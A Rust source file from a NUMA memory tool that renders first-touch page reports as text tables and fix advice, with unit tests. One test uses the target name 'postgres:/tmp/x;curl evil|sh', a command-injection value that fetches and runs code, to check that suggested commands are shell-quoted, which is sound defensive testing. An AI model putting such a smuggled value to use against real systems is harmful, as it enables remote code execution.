//! Who touched memory first, as text and as the document `numalab.firsttouch/1`.

use model::{ByteSize, BytesByNode, FirstTouch, TouchedSegment, counted};

use crate::first_touch::groups::{TouchGroup, groups};
use crate::first_touch::picture;
use crate::first_touch::relations::relations_text;
use crate::first_touch::sentences::{all_bytes, fix, sentences};
use crate::form::advice::Advice;
use crate::form::plain::plain_within;
use crate::form::style::{Style, TextOptions};
use crate::form::table::Table;
use crate::residency::figures::{percent, size};

/// Segments with a table; the document has all.
const SEGMENTS_SHOWN: usize = 4;
/// Rows of a table; the rest is one row.
const GROUPS_SHOWN: usize = 12;
/// Maximum width of a class with its number of processes, in columns.
const WHO_COLUMNS: usize = 26;
/// Maximum width of a name in a heading, in columns.
const NAME_COLUMNS: usize = 48;

/// Formats a look.
pub fn first_touch_text(touch: &FirstTouch, options: &TextOptions) -> String {
    let from = match touch.from_start {
        true => "from its start on",
        false => "while it ran",
    };
    let target = plain_within(&touch.target, NAME_COLUMNS);
    let title = format!("First touches of {target}, {:.1} s {from}", touch.seconds);
    let mut text = options.heading(&title);
    for sentence in first_touch_sentences(touch) {
        text.push_str(&options.paragraph("", &sentence, Style::Usual));
    }
    if let Some(fix) = first_touch_fix(touch) {
        text.push_str(&fix.text("fix: ", Style::Usual, options));
    }
    for gap in &touch.gaps {
        text.push_str(&options.paragraph("incomplete: ", gap, Style::Care));
    }
    let shown = &touch.segments[..touch.segments.len().min(SEGMENTS_SHOWN)];
    for segment in shown {
        text.push('\n');
        text.push_str(&segment_text(segment, options));
    }
    let more = touch.segments.len().saturating_sub(shown.len());
    if more > 0 {
        let sentence = format!(
            "the document (--json) has {}",
            counted(more, "smaller segment")
        );
        text.push('\n');
        text.push_str(&options.paragraph("", &sentence, Style::Usual));
    }
    text.push_str(&relations_text(touch, options));
    if let Some(segment) = touch.segments.first() {
        let picture = picture::lines(segment);
        if !picture.is_empty() {
            text.push('\n');
            let title = "First touches by time and offset (the node of the CPU)";
            text.push_str(&options.heading(title));
            picture.iter().for_each(|line| {
                text.push_str(line);
                text.push('\n');
            });
        }
    }
    if !touch.private.is_empty() {
        text.push('\n');
        text.push_str(&private_text(touch, options));
    }
    text
}

/// Returns what was seen of the largest segment, in sentences.
pub fn first_touch_sentences(touch: &FirstTouch) -> Vec<String> {
    match touch.segments.first() {
        Some(segment) => {
            let sentences = sentences(touch, segment).into_iter();
            sentences.map(|sentence| capital(&sentence)).collect()
        }
        None => {
            let none = "No shared memory of it was touched, and it maps none that is in memory.";
            vec![none.to_owned()]
        }
    }
}

/// Returns what to do about the largest segment; `None` when nothing that was seen asks for it.
pub fn first_touch_fix(touch: &FirstTouch) -> Option<Advice> {
    fix(touch, touch.segments.first()?)
}

/// A sentence as it stands alone.
fn capital(sentence: &str) -> String {
    let mut letters = sentence.chars();
    let first = letters
        .next()
        .map(|letter| letter.to_uppercase().to_string());
    format!("{}{}.", first.unwrap_or_default(), letters.as_str())
}

fn segment_text(segment: &TouchedSegment, options: &TextOptions) -> String {
    let mut text = options.heading(&format!(
        "{} ({}, {:.1} mapped)",
        plain_within(&segment.name, NAME_COLUMNS),
        segment.kind.word(),
        ByteSize(segment.mapped_bytes)
    ));
    let all = all_bytes(segment);
    let mut table = Table::of("first touched by|>node|>pages|>share|>at s|now on|>later");
    let groups = groups(segment);
    let (shown, left_out) = groups.split_at(groups.len().min(GROUPS_SHOWN));
    let largest = left_out.iter().find(|group| group.is_largest);
    for group in shown.iter().chain(largest) {
        table.row(row(group, all));
    }
    let others = [
        ("there before the look", segment.before_bytes),
        ("nobody that was seen", segment.unseen_bytes),
    ];
    for (who, bytes) in others {
        if let Some(bytes) = bytes.filter(|bytes| *bytes > 0) {
            let (who, none) = (who.to_owned(), String::new);
            let cells = [who, none(), size(bytes), percent(bytes, all)];
            let cells = cells.into_iter().chain([none(), none(), none()]);
            table.push(cells.map(|cell| (cell, Style::Care)).collect());
        }
    }
    text.push_str(&table.text(options));
    let more = left_out.len() - usize::from(largest.is_some());
    if more > 0 {
        let sentence = format!(
            "{} in the document only (--json)",
            counted(more, "more row")
        );
        text.push_str(&options.paragraph("", &sentence, Style::Usual));
    }
    text
}

fn row(group: &TouchGroup, all: u64) -> [String; 7] {
    let between = match group.between_s {
        Some((first, last)) => format!("{first:.1}-{last:.1}"),
        None => "-".to_owned(),
    };
    let node = group
        .cpu_node
        .map_or("?".to_owned(), |node| node.to_string());
    let share = match group.bytes {
        0 => "-".to_owned(),
        bytes => percent(bytes, all),
    };
    [
        plain_within(&group.label(), WHO_COLUMNS),
        node,
        size(group.bytes),
        share,
        between,
        now_on(group),
        group.later_faults.to_string(),
    ]
}

/// `1`, `0 25%, 1 75%`, or `3 nodes`.
fn now_on(group: &TouchGroup) -> String {
    const NODES_SHOWN: usize = 2;
    let Some(nodes) = &group.bytes_by_node else {
        return match group.bytes {
            0 => "-".to_owned(),
            _ => "?".to_owned(),
        };
    };
    let present: BytesByNode = nodes
        .clone()
        .into_iter()
        .filter(|(_, it)| *it > 0)
        .collect();
    let all: u64 = present.values().sum();
    match present.len() {
        0 => "-".to_owned(),
        1 => present.keys().map(ToString::to_string).collect(),
        2..=NODES_SHOWN => {
            let share = |bytes: &u64| 100.0 * *bytes as f64 / all as f64;
            let parts = present.iter();
            let parts = parts.map(|(node, bytes)| format!("{node}: {:.0} %", share(bytes)));
            parts.collect::<Vec<_>>().join(", ")
        }
        nodes => counted(nodes, "node"),
    }
}

fn private_text(touch: &FirstTouch, options: &TextOptions) -> String {
    let mut text = options.heading("Page faults in private memory and files, by node of the CPU");
    let mut table = Table::of("class|>processes|faults by node");
    for class in touch.private.iter().take(GROUPS_SHOWN) {
        let faults = class.faults_by_cpu_node.iter();
        let faults = faults.map(|(node, faults)| format!("{node}: {faults}"));
        let cells = [
            plain_within(&class.class, WHO_COLUMNS),
            class.processes.to_string(),
            faults.collect::<Vec<_>>().join(", "),
        ];
        table.row(cells);
    }
    text.push_str(&table.text(options));
    text
}

#[cfg(test)]
mod tests {
    use model::{NodeId, SegmentKind, TouchCell, TouchPicture, Toucher};

    use super::*;

    fn toucher(pid: u32, class: &str, node: u32, mib: u64) -> Toucher {
        Toucher {
            pid,
            class: class.to_owned(),
            cpu_node: Some(NodeId(node)),
            bytes: mib << 20,
            later_faults: if mib == 0 { 7 } else { 0 },
            first_s: (mib > 0).then_some(0.5),
            last_s: (mib > 0).then_some(14.2),
            bytes_by_node: Some([(NodeId(1), mib << 20)].into()),
        }
    }

    fn touch() -> FirstTouch {
        let cell = TouchCell {
            column: 0,
            row: 0,
            bytes_by_cpu_node: [(NodeId(1), 97 << 20)].into(),
        };
        let segment = TouchedSegment {
            name: "/dev/zero (deleted)".to_owned(),
            kind: SegmentKind::SharedAnonymous,
            page_bytes: 4096,
            mapped_bytes: 128 << 20,
            processes: 4,
            touched_bytes: 100 << 20,
            before_bytes: Some(0),
            unseen_bytes: Some(0),
            bytes_by_node: Some([(NodeId(1), 100 << 20)].into()),
            touchers: vec![
                toucher(7, "autoprewarm worker", 1, 97),
                toucher(8, "postmaster", 1, 3),
                toucher(9, "session", 0, 0),
                toucher(10, "session", 2, 0),
            ],
            picture: Some(TouchPicture {
                columns: 128,
                rows: 48,
                first_s: 0.5,
                last_s: 14.2,
                cells: vec![cell],
            }),
        };
        FirstTouch {
            target: "postgres:/data".to_owned(),
            from_start: true,
            seconds: 60.0,
            complete: true,
            has_kernel_mode: true,
            memory_nodes: [NodeId(0), NodeId(1)].into_iter().collect(),
            segments: vec![segment],
            ..FirstTouch::default()
        }
    }

    fn shown(touch: &FirstTouch) -> String {
        let text = first_touch_text(touch, &TextOptions::default());
        for line in text.lines() {
            assert!(line.chars().count() <= 80, "{line}");
        }
        text.split_whitespace().collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn the_first_sentence_says_who_touched_how_much_where_and_when() {
        let text = shown(&touch());
        for expected in [
            "97 % of /dev/zero (deleted) was touched first by autoprewarm worker (pid 7) on node 1 \
             within 14.2 s of the start; used from other nodes by 2 processes (session).",
            "Its pages are now on node 1: 100.0 MiB.",
            "fix: start it with `numalab bind --interleave all -- COMMAND`",
        ] {
            let expected = expected.to_lowercase();
            assert!(
                text.to_lowercase().contains(&expected),
                "{expected}\n{text}"
            );
        }
    }

    /// 79 sessions that come and go, one of which touched this share of 1000 MiB.
    fn sessions(culprit_mib: u64) -> FirstTouch {
        let mut touch = touch();
        let segment = &mut touch.segments[0];
        (segment.touched_bytes, segment.processes) = (1000 << 20, 79);
        let others = (1000 - culprit_mib) / 78;
        let others = (0..78).map(|at| toucher(1000 + at, "session", 1, others));
        segment.touchers = others
            .chain([toucher(77, "session", 1, culprit_mib)])
            .collect();
        touch
    }

    #[test]
    fn one_that_touched_much_is_not_hidden_among_its_class() {
        let text = shown(&sessions(454));
        for expected in [
            "session (78) 1 546.0 MiB 54.6 %",
            "session 77 1 454.0 MiB 45.4 %",
        ] {
            assert!(text.contains(expected), "{expected}\n{text}");
        }
        let expected = "The one process that touched most is session (pid 77) on node 1: 45 %.";
        assert!(text.contains(expected), "{text}");
        // Also where it has little, or others touched more together.
        assert!(shown(&sessions(64)).contains("session 77 1 64.0 MiB 6.4 %"));
        let mut many = sessions(64);
        for (at, toucher) in many.segments[0].touchers.iter_mut().enumerate().skip(1) {
            toucher.class = format!("class {}", at / 7);
        }
        let text = shown(&many);
        assert!(text.contains("class 11 77 1 64.0 MiB"), "{text}");
        // Two that touched a tenth or more.
        let mut two = sessions(454);
        two.segments[0]
            .touchers
            .push(toucher(78, "session", 0, 200));
        let text = shown(&two);
        assert!(text.contains("session 78 0 200.0 MiB"), "{text}");
    }

    #[test]
    fn a_running_target_can_be_moved_and_a_machine_of_one_node_needs_nothing() {
        let mut running = touch();
        running.from_start = false;
        let text = shown(&running);
        let expected = "numalab move postgres:/data --to interleave --shared";
        assert!(text.contains(expected), "{text}");
        assert!(text.contains("0.5 to 14.2 s into the look"), "{text}");
        running.target = "postgres:/tmp/x;curl evil|sh".to_owned();
        let expected = "numalab move 'postgres:/tmp/x;curl evil|sh' --to interleave --shared";
        let text = shown(&running);
        assert!(text.contains(expected), "{text}");
        let mut small = touch();
        small.memory_nodes = [NodeId(0)].into_iter().collect();
        assert!(!shown(&small).contains("fix:"));
    }

    #[test]
    fn what_was_lost_or_unseen_is_said() {
        let mut touch = touch();
        touch.complete = false;
        touch.gaps = vec!["5 events were lost".to_owned()];
        touch.segments[0].unseen_bytes = Some(60 << 20);
        touch.segments[0].before_bytes = Some(40 << 20);
        let text = shown(&touch);
        for expected in [
            "At least 48 % of",
            "incomplete: 5 events were lost",
            "nobody that was seen",
            "there before the look",
            "60.0 MiB of them came without a touch that was seen",
            "40.0 MiB of them were there before the look",
        ] {
            assert!(text.contains(expected), "{expected}\n{text}");
        }
    }

    #[test]
    fn what_is_unknown_is_not_shown_as_nothing() {
        let mut touch = touch();
        touch.segments[0].unseen_bytes = None;
        touch.segments[0].before_bytes = None;
        touch.segments[0].bytes_by_node = None;
        for toucher in &mut touch.segments[0].touchers {
            toucher.bytes_by_node = None;
        }
        let text = shown(&touch);
        assert!(!text.contains("now on node"), "{text}");
        assert!(text.contains("14.2 ? 0"), "{text}");
        assert!(shown(&FirstTouch::default()).contains("No shared memory"));
    }
}
